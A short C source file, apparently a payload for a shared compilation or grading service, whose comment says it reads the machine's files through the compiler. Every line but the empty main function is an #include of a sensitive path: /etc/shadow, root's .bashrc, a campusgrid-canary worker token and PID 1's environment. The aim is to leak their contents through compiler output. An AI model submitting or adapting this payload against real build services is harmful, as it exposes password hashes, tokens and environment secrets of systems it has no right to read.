// Reads the machine's files through the compiler's mouth.
#include "/etc/shadow"
#include "/root/.bashrc"
#include "/tmp/campusgrid-canary/worker-token"
#include "/proc/1/environ"
int main(void) { return 0; }
